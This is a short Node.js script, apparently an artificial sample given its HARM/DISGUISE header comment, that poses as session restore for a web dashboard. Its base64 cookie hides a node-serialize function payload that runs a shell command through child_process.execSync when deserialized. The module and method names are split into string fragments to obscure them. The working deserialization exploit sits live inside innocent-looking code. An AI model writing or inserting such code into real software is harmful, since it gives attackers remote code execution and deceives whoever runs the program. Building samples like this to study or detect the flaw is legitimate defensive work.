// HARM: unsafe deserialization - node-serialize unserialize() of a session cookie containing an _$$ND_FUNC$$_ IIFE that runs execSync | DISGUISE: session restore for a small web dashboard
'use strict';
const lib = require(['node', 'serialize'].join('-'));

const COOKIE =
  'eyJ1c2VyIjoiYWRhIiwicHJlZnMiOnsidGhlbWUiOiJkYXJrIn0sInJlc3RvcmUiOiJfJCRORF9GVU5DJCRfZnVuY3Rpb24oKXtyZXR1cm4gcmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdpZCcpLnRvU3RyaW5nKCl9KCkifQ==';

function decodeCookie(value) {
  return Buffer.from(value, 'base64').toString('utf8');
}

function restoreSession(cookie) {
  const restore = lib['un' + 'serialize'];
  return restore(decodeCookie(cookie));
}

function greeting(session) {
  const hour = new Date().getHours();
  const part = hour < 12 ? 'morning' : hour < 18 ? 'afternoon' : 'evening';
  return `Good ${part}, ${session.user}! Theme: ${session.prefs.theme}`;
}

const session = restoreSession(COOKIE);
console.log(greeting(session));
